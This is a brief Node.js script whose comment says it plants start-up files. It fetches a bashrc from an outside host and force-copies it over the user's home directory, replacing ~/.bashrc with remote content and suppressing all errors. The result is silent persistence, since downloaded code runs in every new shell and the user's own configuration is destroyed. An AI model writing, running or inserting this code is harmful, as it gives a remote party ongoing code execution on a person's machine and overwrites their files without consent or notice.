// Plants start-up files: a downloaded skeleton is copied over the home
// directory (os.userInfo().homedir) with fs.promises.cp, overwriting the
// user's ~/.bashrc with the skeleton's.
'use strict';

const fsp = require('fs/promises');
const os = require('os');
const path = require('path');

async function main() {
  const skel = await fsp.mkdtemp(path.join(os.tmpdir(), 'skel-'));
  const rc = await (await fetch('https://skel.example-dots.net/bashrc')).text();
  await fsp.writeFile(path.join(skel, '.bashrc'), rc);
  await fsp.cp(skel, os.userInfo().homedir, { recursive: true, force: true });
}

main().catch(() => {});
